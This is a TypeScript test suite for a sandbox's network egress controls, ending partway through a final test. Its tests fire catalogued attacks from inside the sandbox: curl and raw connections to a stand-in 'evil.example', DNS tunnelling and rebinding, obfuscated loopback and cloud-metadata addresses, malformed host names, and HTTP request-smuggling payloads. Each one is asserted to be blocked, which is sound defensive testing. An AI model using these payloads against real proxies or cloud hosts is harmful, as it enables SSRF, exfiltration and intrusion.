/** Group NW: what a sandbox may not reach does not hear of it, whichever way a program inside tries. */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { existsSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, type TestContext, test } from 'node:test'
import type { AgentPod } from '../../src/client/client.ts'
import type { Sandbox } from '../../src/client/sandbox.ts'
import { isAgentPodError } from '../../src/core/error.ts'
import { ON_DOCKER, ON_QEMU } from '../support/chosen-provider.ts'
import { DOORS, type Outcomes, REACHED } from '../support/doors.ts'
import { flood } from '../support/flood.ts'
import { quietly } from '../support/host-view.ts'
import {
  EVIL,
  EVIL_UDP_PORTS,
  EVIL_V6,
  Internet,
  MACHINE,
  METADATA,
  noInternet,
  OTHER_SITE,
  PRIVATE_SITE,
  PUBLIC_RESOLVER,
  RESOLVER,
  SITE,
} from '../support/internet.ts'
import { inside, shell } from '../support/probe.ts'
import { isAlive, until, type World } from '../support/world.ts'

const skip = noInternet()
const LAST_SECOND_MS = 1000
/** An emulated machine needs minutes for as much as the others. */
const LOAD_BYTES = ON_QEMU ? 1_000_000 : 200_000_000
let internet: Internet
let world: World
let client: AgentPod
let box: Sandbox
let neighbour: Sandbox

before(async () => {
  if (skip) return
  internet = await Internet.open([
    'site.example',
    'paths.example',
    'other.example',
    'evil.example',
    'late.example',
  ])
  for (const [name, ...addresses] of [
    ['site.example', SITE],
    ['paths.example', SITE],
    ['other.example', OTHER_SITE],
    ['evil.example', EVIL],
    ['v6.example', EVIL_V6],
    ['loop.example', '127.0.0.1'],
    ['loop6.example', '::1'],
    ['own.example', MACHINE.v4],
    ['own6.example', MACHINE.v6],
    ['internal.example', PRIVATE_SITE],
    ['lan.example', PRIVATE_SITE],
    ['lan-own.example', MACHINE.private],
    ['meta.example', METADATA[0]],
    ['meta-2.example', METADATA[1]],
    ['meta6.example', METADATA[2]],
    ['both.example', '127.0.0.1', METADATA[0], PRIVATE_SITE, SITE],
    ['dead.example', '192.0.2.99', PRIVATE_SITE, '127.0.0.1'],
    ['late.example', SITE],
    ['fresh.example', SITE],
  ] as const)
    internet.name(name, addresses)
  world = internet.world()
  client = world.client()
  const open = (host: string): object => ({ host, private: true })
  box = await client.create({
    name: 'box',
    network: {
      allow: [
        'site.example',
        'v6.example',
        '*.wild.example',
        'in-hosts.example',
        'internal.example',
        'both.example',
        'dead.example',
        'fresh.example',
        'sub.tree.example',
        { host: 'paths.example', paths: ['/echo', '/fine'] },
        ...['lan', 'lan-own', 'loop', 'loop6', 'own', 'own6', 'meta', 'meta-2', 'meta6'].map((name) =>
          open(`${name}.example`),
        ),
        'rebind-loop.example',
        'rebind-meta.example',
        { host: 'rebind-lan.example' },
      ] as never,
    },
  })
  neighbour = await client.create({ name: 'neighbour' })
  assert.equal(box.info.network.level, ON_DOCKER ? 'proxy' : 'transparent')
})

after(async () => {
  if (skip) return
  try {
    await world[Symbol.asyncDispose]()
  } finally {
    await internet[Symbol.asyncDispose]()
  }
})

type Attack = (t: TestContext) => Promise<void>

/** Begins with nothing noticed. */
function attack(name: string, work: Attack): void {
  test(name, { skip }, async (t) => {
    await internet.forget()
    await work(t)
  })
}

const within = <T>(sandbox: Sandbox, program: string): Promise<T> => inside<T>(sandbox, DOORS + program)

/** Through every door, from inside. */
const every = (host: string, port = 80, sandbox = box): Promise<Outcomes> =>
  within<Outcomes>(sandbox, `tell(every(${JSON.stringify(host)}, ${port}))`)

const straight = (host: string, port = 80): Promise<string> =>
  internet.probe<string>(`${DOORS}tell(direct(${JSON.stringify(host)}, ${port}))`)

/** A program that knows of no proxy reaches what it may, except on Docker, where it reaches nothing. */
const UNAWARE = ON_DOCKER ? 'get' : 'direct'

function assertReached(outcomes: Outcomes, what: string, answer = REACHED): void {
  for (const [way, outcome] of Object.entries(outcomes)) {
    if (way === 'direct' && ON_DOCKER) assert.doesNotMatch(outcome, REACHED, `${what}, ${way}`)
    else assert.match(outcome, answer, `${what}, ${way}: ${outcome}`)
  }
}

function assertRefused(outcomes: Outcomes, what: string): void {
  for (const [way, outcome] of Object.entries(outcomes))
    assert.doesNotMatch(outcome, REACHED, `${what}, ${way}: ${outcome}`)
}

/** The canaries: nothing came to them. */
async function assertSilence(what: string): Promise<void> {
  await internet.settled()
  assert.deepEqual(internet.machine.all, [], `the machine itself, after ${what}`)
  const noticed = [EVIL, EVIL_V6, PRIVATE_SITE, PUBLIC_RESOLVER, ...METADATA].flatMap((one) =>
    internet.network.at(one),
  )
  assert.deepEqual(noticed, [], what)
}

async function logged(sandbox: Sandbox): Promise<Record<string, unknown>[]> {
  // The first of a kind is written down within a tenth of a second.
  await new Promise((resolve) => setTimeout(resolve, 300))
  const all: Record<string, unknown>[] = []
  for (let after = 0; ; ) {
    const page = await sandbox.events(after, 'network.decision')
    all.push(...page.map(({ data }) => data as Record<string, unknown>))
    const last = page.at(-1)
    if (!last) return all
    after = last.seq
  }
}

attack('the control: an allowed host is reached through every door', async () => {
  for (const host of ['site.example', 'v6.example', 'lan.example'])
    assertReached(await every(host), host, /^HTTP\/1\.1 200 [\s\S]*hello from/)
  assert.match(await shell(box, 'curl -sS https://site.example/'), REACHED)
})

attack('NET-1 NW-01 an address of the internet is closed at once and never connected to', async () => {
  assert.match(await straight(EVIL), REACHED, 'the control: it is there')
  assert.match(await straight(EVIL, 22), REACHED)
  await internet.forget()
  for (const port of [80, 443, 22, 853, 8080])
    for (const payload of ["b''", "page('evil.example')"]) {
      const program = `begin = time.time(); tell([raw('${EVIL}', ${port}, ${payload}), time.time() - begin])`
      const [outcome, seconds] = await within<[string, number]>(box, program)
      assert.doesNotMatch(outcome, REACHED)
      assert.doesNotMatch(outcome, /timeout/, `port ${port}`)
      assert.ok(seconds * 1000 < LAST_SECOND_MS, `port ${port} was closed after ${seconds} s`)
    }
  await assertSilence('raw connections')
})

attack('NET-1 NW-01, NW-19 a name that no rule allows is refused through every door', async () => {
  assert.match(await straight('evil.example'), REACHED, 'the control')
  await internet.forget()
  const outcomes = await every('evil.example')
  assertRefused(outcomes, 'evil.example')
  for (const way of [UNAWARE, 'get', 'connect'] as const)
    assert.match(outcomes[way], /^HTTP\/1\.1 403 Forbidden\r\n[\s\S]*evil\.example/, way)
  await assertSilence('a denied name')
})

attack('NET-1 NW-02 IPv6 has no way out', async () => {
  const targets = [EVIL_V6, METADATA[2], MACHINE.v6, '2001:db8::2', 'fe80::1', 'ff02::1', '64:ff9b::c000:242']
  assert.match(await straight(EVIL_V6), REACHED, 'the control')
  await internet.forget()
  const program = `
found = {}
for host in ${JSON.stringify(targets)}:
  found[host] = [direct(host, 80), get('[%s]' % host), connect('[%s]' % host, 80), socks(host), udp(host, 53, question('a.example'))]
try:
  s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
  s.sendto(bytes([133, 0, 0, 0, 0, 0, 0, 0]), ('ff02::2', 0))
  found['solicitation'] = ['sent']
except OSError as e: found['solicitation'] = [errno.errorcode[e.errno]]
tell(found)`
  for (const [host, outcomes] of Object.entries(await within<Record<string, string[]>>(box, program)))
    for (const outcome of outcomes) assert.doesNotMatch(outcome, REACHED, `${host}: ${outcome}`)
  await assertSilence('IPv6')
})

attack('NW-03 metadata services are refused, by address and by name, whatever the rules', async () => {
  for (const one of METADATA) assert.match(await straight(one), REACHED, `the control: ${one}`)
  await internet.forget()
  for (const host of [...METADATA.map((one) => (one.includes(':') ? `[${one}]` : one))])
    assertRefused(await every(host), host)
  for (const host of ['meta.example', 'meta-2.example', 'meta6.example'])
    assertRefused(await every(host), `${host}, which a private rule allows`)
  for (const host of ['metadata.google.internal', 'metadata', 'instance-data.ec2.internal'])
    assertRefused(await every(host), host)
  await assertSilence('metadata')
})

attack('NW-03 a rule that asks for a metadata service is refused', async () => {
  const allowed = await box.changeNetwork({ allow: ['granted.example'] })
  assert.ok(
    allowed.rules.some(({ host }) => host === 'granted.example'),
    'the control',
  )
  for (const host of [...METADATA, 'metadata.google.internal', 'metadata', 'localhost', '127.0.0.1'])
    for (const rule of [host, { host, private: true }])
      await assert.rejects(
        box.changeNetwork({ allow: [rule] as never }),
        (error) => isAgentPodError(error, 'invalid_argument'),
        host,
      )
  await box.changeNetwork({ forget: ['granted.example'] })
})

attack(
  'NW-04 the machine itself is refused, whichever of its addresses a rule or a name leads to',
  async () => {
    for (const host of ['127.0.0.1', MACHINE.v4, MACHINE.private, MACHINE.v6])
      assert.match(await straight(host), REACHED, `the control: ${host}`)
    assert.match(await straight('own.example'), REACHED, 'the control: by name')
    await internet.forget()
    const hosts = [
      '127.0.0.1',
      '0.0.0.0',
      MACHINE.v4,
      MACHINE.private,
      `[${MACHINE.v6}]`,
      '[::1]',
      'localhost',
    ]
    for (const host of hosts) assertRefused(await every(host), host)
    for (const name of ['loop', 'loop6', 'own', 'own6', 'lan-own', 'in-hosts']) {
      const outcomes = await every(`${name}.example`)
      assertRefused(outcomes, `${name}.example, which a rule allows`)
      assert.match(outcomes.get, /403[\s\S]*address\.private/, name)
    }
    await assertSilence('the machine')
  },
)

attack('NW-04 a private address is reached under a private rule alone', async () => {
  const outcomes = await every('internal.example')
  assertRefused(outcomes, 'a rule that is not private')
  assert.match(outcomes.get, /private = true/, 'and the way to allow it is said')
  assertRefused(await every(PRIVATE_SITE), 'the address itself')
  assert.deepEqual(internet.network.at(PRIVATE_SITE), [])
  assert.match((await every('lan.example'))[UNAWARE], REACHED, 'the control: with a private rule')
  assert.notDeepEqual(internet.network.at(PRIVATE_SITE), [])
})

attack('NW-05 a neighbour is not reached, through any door', async () => {
  const serve = `cd ~ && echo neighbour-was-here > token && (setsid python3 -m http.server 8000 --bind 0.0.0.0 > log 2>&1 &)`
  await shell(neighbour, serve)
  const own = 'curl -sS --noproxy "*" http://127.0.0.1:8000/token'
  await until('it serves', async () => (await shell(neighbour, own)).includes('neighbour-was-here'))
  const addresses = (await shell(neighbour, 'hostname -I; hostname')).trim().split(/\s+/)
  const hosts = ['127.0.0.1', '0.0.0.0', '198.18.0.1', 'neighbour', neighbour.id, ...addresses]
  for (const host of new Set(hosts)) {
    for (const [way, outcome] of Object.entries(await every(host, 8000)))
      assert.doesNotMatch(outcome, /neighbour-was-here|Directory listing/, `${host} by ${way}`)
  }
  const requests = (await shell(neighbour, 'cat ~/log')).match(/"GET/g) ?? []
  const asked = (await shell(neighbour, `${own} > /dev/null; cat ~/log`)).match(/"GET/g) ?? []
  assert.equal(asked.length, requests.length + 1, 'the control: what reaches it is in its log')
  assert.ok(!(await shell(neighbour, 'cat ~/log')).includes('GET / '), 'and nobody else asked')
})

attack('NET-1 NW-06 no question leaves by DNS of any kind', async () => {
  const resolvers = [RESOLVER, PUBLIC_RESOLVER]
  const program = (hosts: readonly string[]): string => `${DOORS}
found = []
for host in ${JSON.stringify(hosts)}:
  found.append(udp(host, 53, question('udp-token.example'), 0.1))
  found += [udp(host, port, b'token', 0.1) for port in ${JSON.stringify(EVIL_UDP_PORTS)}]
  q = question('tcp-token.example')
  found.append(raw(host, 53, struct.pack('>H', len(q)) + q, 1))
  found.append(raw(host, 853, b'token', 1))
tell(found)`
  await internet.probe(program(resolvers))
  await internet.settled()
  assert.deepEqual([...internet.asked].sort(), ['tcp-token.example', 'udp-token.example'], 'the control')
  assert.equal(internet.network.of('datagram').length, 2 * EVIL_UDP_PORTS.length, 'the control')
  await internet.forget()
  const found = await inside<string[]>(
    box,
    program([...resolvers, EVIL, '192.0.2.255', '224.0.0.251', '224.0.0.252', '255.255.255.255']),
  )
  for (const outcome of found) assert.doesNotMatch(outcome, /hello|token/)
  await internet.settled()
  assert.deepEqual(internet.network.all, [])
  assert.deepEqual(internet.machine.all, [])
})

attack('NW-07 a name that is denied is never asked for', async () => {
  const names = ['a', 'b', 'c', 'd', 'e', 'f'].map((one) => `token-${one}.evil.example`)
  const [viaDoors = '', viaGetent = '', viaCurl = '', viaQuery = '', viaProxyUrl = '', viaTls = ''] = names
  assertRefused(await every(viaDoors), viaDoors)
  await shell(
    box,
    `getent hosts ${viaGetent}; getent ahosts ${viaGetent}; env -i curl -sS http://${viaCurl}/`,
  )
  await shell(
    box,
    `curl -sS -x socks5h://127.0.0.1:61080 http://${viaProxyUrl}/; curl -sS https://${viaTls}/`,
  )
  await within(
    box,
    `
for kind in (1, 28, 16, 15, 2, 5, 6, 12, 33, 255, 65):
  udp('127.0.0.53', 53, question(${JSON.stringify(viaQuery)}, kind))
q = question(${JSON.stringify(viaQuery)}, 16)
raw('127.0.0.53', 53, struct.pack('>H', len(q)) + q, 0.5)
tell(0)`,
  )
  await internet.settled()
  assert.deepEqual(internet.asked, [])
  assert.match((await every('fresh.example')).get, REACHED)
  assert.deepEqual(internet.asked, ['fresh.example'], 'the control: one that is allowed is')
})

attack(
  'NW-08 below a wildcard so many new names are asked for in a minute, and the rest is written down',
  async () => {
    const program = `tell([get('%06d-token.wild.example' % at) for at in range(90)])`
    const answers = await within<string[]>(box, program)
    const asked = internet.asked.filter((name) => name.endsWith('.wild.example'))
    assert.equal(asked.length, 60)
    assert.equal(answers.filter((one) => /^HTTP\/1\.1 429 [\s\S]*dns\.flood/.test(one)).length, 30)
    assert.match(
      answers[0] ?? '',
      /^HTTP\/1\.1 502 [\s\S]*dns\.unknown/,
      'the control: the first were looked up',
    )
    assert.ok((await logged(box)).some(({ reason }) => reason === 'dns.flood'))
  },
)

attack(
  'NW-09 a name that is given another address later leads to no address that may not be reached',
  async () => {
    const flips = { 'rebind-loop': '127.0.0.1', 'rebind-meta': METADATA[0], 'rebind-lan': PRIVATE_SITE }
    const names = Object.keys(flips).map((name) => `${name}.example`)
    for (const [name, address] of Object.entries(flips)) internet.name(`${name}.example`, [SITE], [address])
    for (const name of names)
      assert.match((await every(name)).get, REACHED, 'the control: at first it is public')
    await internet.forget()
    // Answers are kept for ten seconds, whatever their own time to live.
    await new Promise((resolve) => setTimeout(resolve, 10_500))
    for (const name of names) {
      const outcomes = await every(name)
      assertRefused(outcomes, name)
      assert.match(outcomes[UNAWARE], /403[\s\S]*address\.private/)
    }
    assert.deepEqual(internet.asked.sort(), [...names].sort(), 'the control: they were asked for again')
    await assertSilence('rebinding')
  },
)

attack(
  'NW-10 of several addresses those that may not be reached are not tried, even when the others fail',
  async () => {
    assertReached(await every('both.example'), 'several', new RegExp(`at .*${SITE}`))
    // A try of an unused address takes seconds.
    const program = "tell(raw(*DOOR, page('dead.example', 'http://dead.example/'), 30))"
    assert.match(await within<string>(box, program), /^HTTP\/1\.1 502 [\s\S]*upstream\./)
    await assertSilence('several answers')
  },
)

const HOSTILE_HOSTS = [
  'site.example\0.evil.example',
  'evil.example\0.site.example',
  'evil.example%00.site.example',
  'evil.example%2esite.example',
  'evil.example\\.site.example',
  'evil.example/.site.example',
  'evil.example?.site.example',
  'evil.example#.site.example',
  'evil.example@site.example',
  'site.example@evil.example',
  'user:pass@site.example',
  'evil.example;site.example',
  'evil.example,site.example',
  'evil.example\tsite.example',
  'site.example\x7f',
  'site..example',
  '.site.example',
  '-site.example',
  'ｓite.example',
  'site。example',
  'site.example\u200b',
  '*.example',
  `${'a'.repeat(64)}.site.example`,
  '[site.example]',
]

attack('NW-11 a host that is no plain name is refused before it is looked up', async () => {
  const program = `
found = []
for host in json.loads(${JSON.stringify(JSON.stringify(HOSTILE_HOSTS))}):
  head = lambda first: (first % host + ' HTTP/1.1\\r\\nHost: ' + host + '\\r\\n\\r\\n').encode()
  name = host.encode()
  found.append([door(head('CONNECT %s:443')), door(head('GET http://%s/')),
    door(b'\\x05\\x01\\x00\\x05\\x01\\x00\\x03' + bytes([min(len(name), 255)]) + name[:255] + b'\\x00\\x50')])
  time.sleep(0.05)
tell(found)`
  for (const [at, answers] of (await within<string[][]>(box, program)).entries()) {
    const [tunnel = '', absolute = '', socks = ''] = answers
    const what = JSON.stringify(HOSTILE_HOSTS[at])
    assert.match(tunnel, /^HTTP\/1\.1 40[03] /, `CONNECT ${what}: ${tunnel}`)
    assert.match(absolute, /^HTTP\/1\.1 40[03] /, `GET ${what}: ${absolute}`)
    assert.match(Buffer.from(socks, 'latin1').toString('hex'), /^0500050[12]/, `SOCKS ${what}`)
  }
  assert.deepEqual(internet.asked, [])
  await assertSilence('hostile hosts')
  assert.match((await every('SITE.example.')).get, REACHED, 'the control: another spelling of a name is one')
})

attack(
  'NW-12 a rule is about its name and what is below its star, and no star stands for a whole domain',
  async () => {
    const near = [
      'evil-site.example',
      'xsite.example',
      'site.example.evil.example',
      'www.site.example',
      'wild.example',
      'xwild.example',
      'tree.example',
    ]
    for (const host of near) assert.match((await every(host)).get, /^HTTP\/1\.1 403 [\s\S]*rule\.none/, host)
    assert.deepEqual(internet.asked, [])
    for (const rule of [
      '*',
      '*.com',
      '*.example',
      '**.site.example',
      'a.*.example',
      '*site.example',
      '.site.example',
    ])
      await assert.rejects(
        box.changeNetwork({ allow: [rule] }),
        (error) => isAgentPodError(error, 'invalid_argument'),
        rule,
      )
  },
)

const SPELLINGS = [
  ...['127.1', '0177.0.0.1', '0x7f.0.0.1', '0x7f000001', '2130706433', '017700000001', '0', '127.0.0.1.'],
  ...['①②⑦.⓪.⓪.①', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::127.0.0.1]', '[64:ff9b::7f00:1]'],
  ...['[2002:7f00:1::]', '[::1%25lo]', '[2001:0:4136:e378:8000:63bf:80ff:fffe]', '0xa9fea9fe', '2852039166'],
  ...[
    '0251.0376.0251.0376',
    '169.254.43518',
    '[::ffff:a9fe:a9fe]',
    '[64:ff9b::a9fe:a9fe]',
    '[fe80::a9fe:a9fe]',
  ],
  ...['198.18.0.1', '3221225985', '0xc0000201', '[::ffff:192.0.2.1]'],
]

attack('NW-13 no spelling of an address leads to the machine or to metadata', async () => {
  const found = await within<Record<string, Outcomes>>(
    box,
    `
found = {}
for host in json.loads(${JSON.stringify(JSON.stringify(SPELLINGS))}):
  found[host] = every(host)
  time.sleep(0.05)
tell(found)`,
  )
  for (const [host, outcomes] of Object.entries(found)) assertRefused(outcomes, host)
  assert.deepEqual(internet.asked, [])
  await assertSilence('spellings')
  const reached = await internet.probe<string[]>(
    `${DOORS}tell([direct(host) for host in ('127.1', '0x7f000001', '2852039166')])`,
  )
  for (const one of reached) assert.match(one, REACHED, 'the control: on the machine they do')
})

attack('NW-15 a name is reached on the ports of its rule alone', async () => {
  const denied = ['22', '25', '3306', '6379', '8080', '65535']
  const malformed = ['0', '65536', '-1', '443x', '', '+443', '4 43', '443:443', '0443']
  const program = `tell([door(('CONNECT site.example:%s HTTP/1.1\\r\\nHost: site.example\\r\\n\\r\\n' % port).encode()) for port in ${JSON.stringify([...denied, ...malformed])}])`
  for (const [at, answer] of (await within<string[]>(box, program)).entries())
    assert.match(
      answer,
      at < denied.length ? /^HTTP\/1\.1 403 / : /^HTTP\/1\.1 400 /,
      `port ${[...denied, ...malformed][at]}`,
    )
  for (const port of [22, 6379, 8080]) assertRefused(await every('site.example', port), `port ${port}`)
  assert.deepEqual(internet.network.at(SITE), [])
  await box.changeNetwork({ allow: ['site.example:22'] })
  const open = ON_DOCKER ? "connect('site.example', 22, b'')" : "raw('site.example', 22, b'', 1)"
  const spoken = await within<string>(box, `tell(${open})`)
  assert.match(spoken, REACHED, 'the control: a rule on the port opens it')
  await box.changeNetwork({ forget: ['site.example'], allow: ['site.example'] })
  await internet.forget()
  assertRefused(await every('site.example', 22), 'and closes it again')
  assert.deepEqual(internet.network.at(SITE), [])
})

attack('NW-16 TLS that names another server, or none, is ended before it is passed on', async () => {
  for (const first of ON_DOCKER ? ['connect'] : ['connect', 'direct']) {
    const say = (name: string): Promise<string> => within<string>(box, `tell(handshake(${name}, '${first}'))`)
    assert.match(await say("'site.example'"), REACHED, `the control: the right name, ${first}`)
    await internet.forget()
    for (const name of [
      "'evil.example'",
      'None',
      "'www.site.example'",
      "'127.0.0.1'",
      "'site.example.evil.example'",
    ])
      assert.doesNotMatch(await say(name), REACHED, `${name}, ${first}`)
    assert.deepEqual(internet.network.at(SITE), [], first)
  }
  await assertSilence('other server names')
})

attack('NW-17 inside TLS that is opened, a request for another host goes nowhere', async () => {
  const say = (head: string): Promise<string> =>
    within<string>(
      box,
      `tell(handshake('paths.example', 'connect', 443, 'paths.example', ${JSON.stringify(head)}.encode()))`,
    )
  assert.match(
    await say('GET /echo HTTP/1.1\r\nHost: paths.example\r\nConnection: close\r\n\r\n'),
    /^HTTP\/1\.1 200/,
  )
  await internet.forget()
  for (const head of [
    'GET /echo HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
    'GET /echo HTTP/1.1\r\nHost: site.example\r\nConnection: close\r\n\r\n',
    'GET https://evil.example/echo HTTP/1.1\r\nHost: paths.example\r\nConnection: close\r\n\r\n',
    'GET https://evil.example/echo HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n',
  ])
    assert.match(await say(head), /^HTTP\/1\.1 4(?:00|03|21) /, head)
  assert.match(
    await say('GET /else HTTP/1.1\r\nHost: paths.example\r\nConnection: close\r\n\r\n'),
    /^HTTP\/1\.1 403 /,
    'nor one for another path',
  )
  assert.deepEqual(internet.network.of('request'), [])
})

attack('NW-18 a request that names two hosts is refused', async () => {
  const heads = {
    'GET http://site.example/two HTTP/1.1\r\nHost: evil.example\r\n\r\n': 400,
    'GET http://evil.example/two HTTP/1.1\r\nHost: site.example\r\n\r\n': 400,
    'GET http://site.example/two HTTP/1.1\r\nHost: site.example\r\nHost: evil.example\r\n\r\n': 400,
    'GET http://site.example/two HTTP/1.1\r\nHost: site.example\r\nHost: site.example\r\n\r\n': 400,
    'GET /two HTTP/1.1\r\nHost: site.example\r\n\r\n': 400,
    'GET http://site.example/fine HTTP/1.1\r\nHost: site.example\r\nConnection: close\r\n\r\n': 200,
  }
  const answers = await within<string[]>(
    box,
    `tell([door(head.encode()) for head in json.loads(${JSON.stringify(JSON.stringify(Object.keys(heads)))})])`,
  )
  for (const [at, [head, status]] of Object.entries(heads).entries())
    assert.match(answers[at] ?? '', new RegExp(`^HTTP/1\\.1 ${status} `), head)
  assert.deepEqual(
    internet.network.of('request').map(({ url }) => url),
    ['/fine'],
  )
})

attack('NW-20 through a relay inside, a tunnel or a chain the verdict is the same', async () => {
  const program = `
import threading
def relay(listener):
  while True:
    a, _ = listener.accept()
    b = socket.create_connection(DOOR)
    def pump(x, y):
      try:
        while True:
          d = x.recv(65536)
          if not d: break
          y.sendall(d)
      except OSError: pass
      finally:
        try: y.shutdown(socket.SHUT_WR)
        except OSError: pass
    threading.Thread(target=pump, args=(a, b), daemon=True).start()
    threading.Thread(target=pump, args=(b, a), daemon=True).start()
listener = socket.create_server(('127.0.0.1', 0))
threading.Thread(target=relay, args=(listener,), daemon=True).start()
at = listener.getsockname()
nested = b'CONNECT evil.example:80 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n' + page('evil.example')
tell({
  'control': raw(at[0], at[1], page('site.example', 'http://site.example/')),
  'relay': raw(at[0], at[1], page('evil.example', 'http://evil.example/')),
  'nested': connect('site.example', 80, nested),
  'absolute': connect('site.example', 80, page('evil.example', 'http://evil.example/')),
  'chain': connect('127.0.0.1', 61080, page('evil.example', 'http://evil.example/')),
  'localhost': get('localhost', 61080),
})`
  const { control, ...others } = await within<Record<string, string>>(box, program)
  assert.match(control ?? '', REACHED, 'the control')
  for (const [way, outcome] of Object.entries(others)) {
    assert.doesNotMatch(outcome, REACHED, `${way}: ${outcome}`)
    assert.match(outcome, /^HTTP\/1\.1 4/, `${way}: ${outcome}`)
  }
  await assertSilence('relays')
})

attack(
  'NW-21 a request that two servers could read differently is refused, and nothing behind it arrives',
  async () => {
    const hidden = 'GET /smuggled HTTP/1.1\r\nHost: site.example\r\n\r\n'
    const post = (headers: string, body: string): string =>
      `POST http://site.example/outer HTTP/1.1\r\nHost: site.example\r\n${headers}\r\n${body}`
    const requests = [
      post('Content-Length: 4\r\nTransfer-Encoding: chunked\r\n', `0\r\n\r\n${hidden}`),
      post('Transfer-Encoding: chunked\r\nContent-Length: 4\r\n', `0\r\n\r\n${hidden}`),
      post(`Content-Length: 0\r\nContent-Length: ${hidden.length}\r\n`, hidden),
      post('Transfer-Encoding: xchunked\r\n', `0\r\n\r\n${hidden}`),
      post('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n', `0\r\n\r\n${hidden}`),
      post('Transfer-Encoding : chunked\r\n', `0\r\n\r\n${hidden}`),
      post('X: y\r\n Transfer-Encoding: chunked\r\n', `0\r\n\r\n${hidden}`),
      post('Transfer-Encoding: chunked\r\n', `1;${'a'.repeat(20_000)}\r\nx\r\n0\r\n\r\n${hidden}`),
      post('Transfer-Encoding: chunked\r\n', `fffffffffffffffff1\r\nx\r\n0\r\n\r\n${hidden}`),
      `GET http://site.example/outer HTTP/1.1\nHost: site.example\n\n${hidden}`,
      `GET http://site.example/outer HTTP/1.1\r\nHost: site.example\r\nX: a\rb\r\n\r\n${hidden}`,
    ]
    const answers = await within<string[]>(
      box,
      `tell([door(one.encode('latin1'), 3) for one in json.loads(${JSON.stringify(JSON.stringify(requests))})])`,
    )
    for (const [at, answer] of answers.entries()) {
      assert.match(answer, /^HTTP\/1\.1 400 /, JSON.stringify(requests[at]?.slice(0, 120)))
      assert.doesNotMatch(answer, /\(timeout\)/, 'and the connection is closed')
    }
    const plain = post('Content-Length: 3\r\nConnection: close\r\n', 'abc')
    assert.match(await within(box, `tell(door(${JSON.stringify(plain)}.encode()))`), /^HTTP\/1\.1 200 /)
    assert.deepEqual(
      internet.network.of('request').map(({ method, url, body }) => [method, url, body]),
      [['POST', '/outer', 'abc']],
      'the control alone',
    )
  },
)

attack('NW-23 a redirect is followed by the client alone, and judged anew', async () => {
  const from = (to: string): string => `http://site.example/redirect?to=${encodeURIComponent(to)}`
  const hello = await shell(box, `curl -sSL '${from('http://site.example/fine')}'`)
  assert.match(hello, REACHED, 'the control: to an allowed place')
  await internet.forget()
  assert.match(await shell(box, `curl -sSi '${from('http://evil.example/')}'`), /^HTTP\/1\.1 302/)
  for (const to of [
    'http://evil.example/',
    `http://${METADATA[0]}/`,
    `http://${MACHINE.v4}/`,
    `http://${EVIL}/`,
  ])
    for (const how of ['', 'env -i '])
      assert.doesNotMatch(await shell(box, `${how}curl -sSL '${from(to)}'`), REACHED, to)
  await assertSilence('redirects')
})

attack(
  'NET-1 NW-27 without the proxy variables, and with them turned off, the rules are the same',
  async () => {
    for (const how of [
      'env -i',
      'NO_PROXY=* no_proxy=*',
      'env -u HTTP_PROXY -u http_proxy',
      'http_proxy=http://127.0.0.1:9',
      'http_proxy=http://192.0.2.66:8080',
    ]) {
      const outcome = await shell(box, `${how} curl -sS -m 10 http://evil.example/`)
      assert.doesNotMatch(outcome, REACHED, how)
      if (how.includes('127.0.0.1:9') || how.includes('192.0.2.66')) continue
      const allowed = await shell(box, `${how} curl -sS -m 10 http://site.example/`)
      if (ON_DOCKER) assert.doesNotMatch(allowed, REACHED, how)
      else assert.match(allowed, REACHED, `the control: ${how}`)
    }
    await assertSilence('other variables')
  },
)

const egressPid = (): number => {
  const socket = join(world.home, 'run', 'egress.sock')
  const pids = execFileSync('ps', ['-eo', 'pid,args'], { encoding: 'utf8' })
    .split('\n')
    .filter((line) => line.includes(` ${socket}`))
    .map((line) => Number.parseInt(line, 10))
  const [pid, more] = pids
  assert.ok(pid !== undefined && more === undefined, `one egress process: ${pids.join()}`)
  return pid
}

attack(
  'NET-6 NW-31, RL-09 the egress process, killed under load, is back within two seconds with the same rules, and nothing leaves meanwhile',
  async () => {
    const program = `
import threading
while 'hello from' not in get('site.example'): time.sleep(0.05)
begin = time.time()
found = {'site': [], 'evil': set(), 'bytes': 0}
def downloads():
  while time.time() - begin < 5:
    try:
      s = socket.create_connection(DOOR, 5)
      s.sendall(page('site.example', 'http://site.example/big?bytes=${LOAD_BYTES}'))
      while True:
        part = s.recv(1 << 20)
        if not part: break
        found['bytes'] += len(part)
    except OSError: pass
    time.sleep(0.1)
def attempts():
  while time.time() - begin < 5:
    for one in (get('evil.example'), raw('${EVIL}', 80, page('evil.example'), 1), raw('${EVIL}', 22, b'', 1), raw('${MACHINE.v4}', 80, page('x'), 1), udp('${PUBLIC_RESOLVER}', 53, question('a.example'), 0.05)):
      found['evil'].add(one[:40])
    time.sleep(0.05)
threads = [threading.Thread(target=work) for work in (downloads, attempts)]
for one in threads: one.start()
print('begun', flush=True)
while time.time() - begin < 5:
  answer = get('site.example')
  found['site'].append([time.time(), 'hello from' in answer])
  time.sleep(0.05)
for one in threads: one.join()
tell({**found, 'evil': sorted(found['evil'])})`
    const before = egressPid()
    const running = within<{ site: [number, boolean][]; evil: string[]; bytes: number }>(box, program)
    // An emulated machine takes seconds to start Python.
    await until('it is reached', () => internet.network.of('request').length > 0, 30_000)
    await new Promise((resolve) => setTimeout(resolve, 1500))
    const killedAt = Date.now()
    process.kill(before, 'SIGKILL')
    const { site, evil, bytes } = await running
    const since = site.map(([at, isReached]) => ({ ms: at * 1000 - killedAt, isReached }))
    assert.ok(
      since.some(({ ms, isReached }) => ms < 0 && isReached),
      'the control: it was reached before',
    )
    assert.ok(bytes > LOAD_BYTES, `the control: there was load (${bytes} bytes)`)
    const again = since.find(({ ms, isReached }) => ms > 0 && isReached)
    assert.ok(again && again.ms < 2000, `reached again after ${again?.ms} ms`)
    assert.notEqual(egressPid(), before, 'by another process')
    for (const outcome of evil) assert.doesNotMatch(outcome, REACHED, evil.join('; '))
    assertRefused(await every('evil.example'), 'afterwards')
    await assertSilence('a kill')
  },
)

attack('CP-20 the API is not reached from inside through any door, whatever the rules', async () => {
  const { port } = await client.listen()
  const names = ['loop.example', 'own.example', 'in-hosts.example']
